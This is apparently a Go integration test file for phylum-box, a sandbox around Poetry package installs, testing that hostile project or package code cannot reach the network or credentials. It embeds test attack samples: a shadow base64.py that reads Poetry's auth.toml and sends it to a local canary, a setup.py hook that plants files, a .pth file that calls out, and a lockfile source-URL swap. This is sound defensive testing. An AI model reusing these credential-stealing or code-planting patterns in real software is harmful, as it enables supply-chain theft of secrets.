package integration

import (
	"net/http"
	"net/http/httputil"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"
)

// Poetry's networked steps trust nothing the project or an earlier step's code
// could have written (issue 14): the download runs the system python3 isolated,
// outside the project, on a list phylum-box wrote from the validated poetry.lock;
// a lockfile source URL that is not the configured one for its source's
// credentials is blocked before anything is fetched; the resolve may write only
// poetry.lock.

// poetryShadowBase64 is a project base64.py that reports to the canary when it is
// imported — with the network, it would send the index credentials — and then
// behaves as the real module, so that an offline step importing it still works.
const poetryShadowBase64 = `import os, socket, sys, sysconfig, importlib.util
try:
    s = socket.create_connection(("127.0.0.1", @CANARY_PORT@), timeout=3)
    auth = ""
    try:
        auth = open(os.path.expanduser("~/.config/pypoetry/auth.toml")).read()
    except Exception:
        pass
    s.sendall(("project base64.py imported by %r auth=%r\n" % (sys.argv, auth)).encode())
    s.close()
except Exception:
    pass
_spec = importlib.util.spec_from_file_location("base64", os.path.join(sysconfig.get_paths()["stdlib"], "base64.py"))
_real = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(_real)
globals().update({k: v for k, v in _real.__dict__.items() if not k.startswith("__")})
`

// TestPoetryProjectModuleNotImportedWithNetwork: a project base64.py (any
// standard-library name) is not imported by the download step, which holds the
// network and the index credentials — the canary hears nothing — and the same
// project installs (exit 0, the package imports).
func TestPoetryProjectModuleNotImportedWithNetwork(t *testing.T) {
	t.Parallel()
	poetryNeed(t)
	forEachMode(t, func(t *testing.T, m mode) {
		ix := pyGreetIndex(t)
		canary := regStartCanary(t)
		db := regMalDB(t, m, "PyPI")
		b := poetryProject(t, m, ix, "pbox-greet")
		writeFile(t, filepath.Join(b.Project, "base64.py"), strings.ReplaceAll(poetryShadowBase64, "@CANARY_PORT@", strconv.Itoa(canary.Port)), 0o644)
		writeFile(t, filepath.Join(b.Home, ".config", "pypoetry", "auth.toml"), "[http-basic.pbox]\nusername = \"pbox\"\npassword = \""+b.Mark+"\"\n", 0o600)
		// Credentials held: the source must be the user's own (credhosts.go).
		writeFile(t, filepath.Join(b.Home, ".config", "pypoetry", "config.toml"), "[repositories.pbox]\nurl = \""+ix.URL+"/simple/\"\n", 0o600)
		chownTree(t, m, b.Home)
		r := b.poetry(db, "install", "--no-root")
		for _, got := range canary.Got() {
			t.Errorf("the project's base64.py ran with the network: %q", got)
		}
		wantCode(t, r, 0, "poetry install in a project with its own base64.py")
		out, err := exec.Command(filepath.Join(b.Project, ".venv", "bin", "python"), "-c", "import pbox_greet; print(pbox_greet.GREETING)").CombinedOutput()
		if err != nil || strings.TrimSpace(string(out)) != "hello dep" {
			t.Errorf("the installed package does not import: %v %s\n%s", err, out, r)
		}
	})
}

// poetryAuthIndex puts HTTP basic authentication in front of ix: requests without
// user:password are answered 401. It records the Authorization headers it saw.
type poetryAuthIndex struct {
	URL       string
	mu        sync.Mutex
	ok, nokey int
}

func startPoetryAuthIndex(t *testing.T, ix *pyIndex, user, password string) *poetryAuthIndex {
	t.Helper()
	target, _ := url.Parse(ix.URL)
	proxy := httputil.NewSingleHostReverseProxy(target)
	a := &poetryAuthIndex{}
	srv := regServe(t, t.TempDir(), func(s *regServer, w http.ResponseWriter, r *http.Request) bool {
		u, p, has := r.BasicAuth()
		a.mu.Lock()
		if has && u == user && p == password {
			a.ok++
		} else {
			a.nokey++
		}
		a.mu.Unlock()
		if !has || u != user || p != password {
			w.Header().Set("WWW-Authenticate", `Basic realm="pbox"`)
			http.Error(w, "unauthorized", http.StatusUnauthorized)
			return true
		}
		proxy.ServeHTTP(w, r)
		return true
	})
	a.URL = srv.URL
	return a
}

func (a *poetryAuthIndex) counts() (ok, nokey int) {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.ok, a.nokey
}

// poetryPrivateProject is a Poetry project whose only source, "private", needs the
// credentials the test user keeps in Poetry's auth.toml; config.toml pins its URL.
func poetryPrivateProject(t *testing.T, m mode, priv *poetryAuthIndex, password string) *box {
	t.Helper()
	b := regNewBox(t, m)
	py := "[tool.poetry]\nname = \"proj\"\nversion = \"0.1.0\"\ndescription = \"\"\nauthors = [\"pbox <pbox@example.invalid>\"]\npackages = []\n\n" +
		"[tool.poetry.dependencies]\npython = \"^3.9\"\npbox-greet = \"*\"\n\n" +
		"[[tool.poetry.source]]\nname = \"private\"\nurl = \"" + priv.URL + "/simple/\"\ndefault = true\n\n" +
		"[build-system]\nrequires = [\"poetry-core\"]\nbuild-backend = \"poetry.core.masonry.api\"\n"
	writeFile(t, filepath.Join(b.Project, "pyproject.toml"), py, 0o644)
	cfg := filepath.Join(b.Home, ".config", "pypoetry")
	writeFile(t, filepath.Join(cfg, "config.toml"), "[repositories.private]\nurl = \""+priv.URL+"/simple/\"\n", 0o600)
	writeFile(t, filepath.Join(cfg, "auth.toml"), "[http-basic.private]\nusername = \"pbox\"\npassword = \""+password+"\"\n", 0o600)
	chownTree(t, m, b.Home)
	return b
}

var poetryLockSourceURL = regexp.MustCompile(`(?m)^url = "http://127\.0\.0\.1:\d+/simple/?"$`)

// TestPoetryLockSourceURLSwapBlocked: the legitimate twin first — a private source
// with the user's credentials (Poetry's auth.toml) installs, and the index saw
// them; then the committed poetry.lock's source url is swapped for a listener's
// while its reference still names the private source: exit 3 naming poetry.lock
// and the line, the listener gets no request at all (so no Authorization header),
// and the project is left as it was.
func TestPoetryLockSourceURLSwapBlocked(t *testing.T) {
	t.Parallel()
	poetryNeed(t)
	forEachMode(t, func(t *testing.T, m mode) {
		ix := pyGreetIndex(t)
		password := "pbox-private-" + strconv.Itoa(os.Getpid())
		priv := startPoetryAuthIndex(t, ix, "pbox", password)
		db := regMalDB(t, m, "PyPI")
		b := poetryPrivateProject(t, m, priv, password)

		r := b.poetry(db, "install", "--no-root")
		wantCode(t, r, 0, "poetry install from a private source with the user's credentials")
		if ok, _ := priv.counts(); ok == 0 {
			t.Errorf("the private index never saw the credentials\n%s", r)
		}
		out, err := exec.Command(filepath.Join(b.Project, ".venv", "bin", "python"), "-c", "import pbox_greet; print(pbox_greet.GREETING)").CombinedOutput()
		if err != nil || strings.TrimSpace(string(out)) != "hello dep" {
			t.Fatalf("the installed package does not import: %v %s\n%s", err, out, r)
		}

		var mu sync.Mutex
		var attackerGot []string
		attacker := regServe(t, t.TempDir(), func(s *regServer, w http.ResponseWriter, r *http.Request) bool {
			mu.Lock()
			attackerGot = append(attackerGot, r.Method+" "+r.URL.String()+" Authorization="+r.Header.Get("Authorization"))
			mu.Unlock()
			http.NotFound(w, r)
			return true
		})
		lockPath := filepath.Join(b.Project, "poetry.lock")
		lock, err := os.ReadFile(lockPath)
		if err != nil {
			t.Fatal(err)
		}
		swapped := poetryLockSourceURL.ReplaceAllString(string(lock), `url = "`+attacker.URL+`/simple"`)
		if swapped == string(lock) || !strings.Contains(swapped, `reference = "private"`) {
			t.Fatalf("no source url to swap in poetry.lock:\n%s", lock)
		}
		writeFile(t, lockPath, swapped, 0o644)
		os.RemoveAll(filepath.Join(b.Project, ".venv"))
		chownTree(t, m, b.Home)
		before := treeHash(t, b.Project, true)
		r = b.poetry(db, "install", "--no-root")
		wantCode(t, r, 3, "a poetry.lock source url that is not the private source's")
		wantStderr(t, r, "poetry.lock:", "private", attacker.URL)
		mu.Lock()
		for _, got := range attackerGot {
			t.Errorf("the listener named by poetry.lock was contacted: %s", got)
		}
		mu.Unlock()
		if strings.Contains(r.Stdout+r.Stderr, password) {
			t.Errorf("the password was printed\n%s", r)
		}
		assertSameTree(t, before, treeHash(t, b.Project, true), "a blocked install")
	})
}

// poetryPlantSetupPy is an sdist whose metadata hook — run by `poetry lock` while it
// resolves — writes into the project for a later step to pick up: a base64.py
// that a step with the network would import, and a wheel in phylum-box's
// download dir that the build would install. Its metadata is otherwise ordinary.
const poetryPlantSetupPy = `import os
from setuptools import setup
project = "@PROJECT@"
try:
    with open(os.path.join(project, "base64.py"), "w") as f:
        f.write("raise SystemExit('planted by pbox-plant')\n")
    os.makedirs(os.path.join(project, ".phylum-box-poetry", "dist"), exist_ok=True)
    open(os.path.join(project, ".phylum-box-poetry", "dist", "pbox_dep-1.0-cp311-cp311-manylinux_2_17_x86_64.whl"), "w").close()
except OSError:
    pass
setup(name="pbox-plant", version="1.0", py_modules=[], install_requires=[r for r in ["pbox-dep>=1.0"]])
`

// TestPoetryResolveWritesOnlyTheLockfile: what the resolve's code writes into the
// project reaches no later step — the install stops (exit 4) naming the file, and
// nothing is synced back; its twin, an sdist whose metadata hook writes nothing
// into the project, installs (TestPoetryLockSdistMetadataHookHasNoNetwork, and
// pbox-plant itself once the project is elsewhere).
func TestPoetryResolveWritesOnlyTheLockfile(t *testing.T) {
	t.Parallel()
	poetryNeed(t)
	forEachMode(t, func(t *testing.T, m mode) {
		ix := pyGreetIndex(t)
		db := regMalDB(t, m, "PyPI")
		b := poetryProject(t, m, ix, "pbox-plant")
		ix.AddSdist("pbox-plant", "1.0", map[string]string{"setup.py": strings.ReplaceAll(poetryPlantSetupPy, "@PROJECT@", b.Project)})
		before := treeHash(t, b.Project, true)
		r := b.poetry(db, "install", "--no-root")
		wantCode(t, r, 4, "a resolve whose sdist hook wrote into the project")
		wantStderr(t, r, "poetry lock wrote", "nothing was installed")
		assertSameTree(t, before, treeHash(t, b.Project, true), "a stopped install")

		// The twin: the same sdist, its hook writing to a directory that does not
		// exist in the sandbox, installs.
		twin := poetryProject(t, m, ix, "pbox-plant2")
		ix.AddSdist("pbox-plant2", "1.0", map[string]string{"setup.py": strings.NewReplacer("@PROJECT@", filepath.Join(twin.Home, "nowhere"), "pbox-plant", "pbox-plant2").Replace(poetryPlantSetupPy)})
		r = twin.poetry(db, "install", "--no-root")
		wantCode(t, r, 0, "an sdist whose metadata hook writes nothing into the project")
		if m, _ := filepath.Glob(filepath.Join(sitePackages(t, filepath.Join(twin.Project, ".venv")), "pbox_plant2-1.0*-info")); len(m) == 0 {
			t.Errorf("pbox-plant2 was not installed\n%s", r)
		}
	})
}

// TestPoetryProjectVenvNotRunWithNetwork: a project's .venv (made by the user, or
// committed) is the build's target, never an interpreter of a step with the
// network — Poetry with virtualenvs.in-project took it as the environment of
// `poetry lock` and ran its python, whose .pth file then reached the index through
// the resolve step's proxy. The index hears nothing from the .pth, and the
// install into that .venv works.
func TestPoetryProjectVenvNotRunWithNetwork(t *testing.T) {
	t.Parallel()
	poetryNeed(t)
	forEachMode(t, func(t *testing.T, m mode) {
		ix := pyGreetIndex(t)
		db := regMalDB(t, m, "PyPI")
		b := poetryProject(t, m, ix, "pbox-greet")
		hostSh(t, m, b.Project, "/usr/bin/python3 -m venv .venv")
		pth := `import urllib.request; exec("try:\n urllib.request.urlopen('` + ix.URL + `/pth-ran', timeout=3)\nexcept Exception:\n pass\n")` + "\n"
		writeFile(t, filepath.Join(sitePackages(t, filepath.Join(b.Project, ".venv")), "pbox-evil.pth"), pth, 0o644)
		chownTree(t, m, b.Home)
		r := b.poetry(db, "install", "--no-root")
		for _, h := range ix.Hits() {
			if strings.Contains(h, "pth-ran") {
				t.Errorf("the project's .venv ran with the network: %s", h)
			}
		}
		wantCode(t, r, 0, "poetry install into the project's own .venv")
		out, err := exec.Command(filepath.Join(b.Project, ".venv", "bin", "python"), "-c", "import pbox_greet; print(pbox_greet.GREETING)").CombinedOutput()
		if err != nil || !strings.Contains(string(out), "hello dep") {
			t.Errorf("the installed package does not import: %v %s\n%s", err, out, r)
		}
	})
}
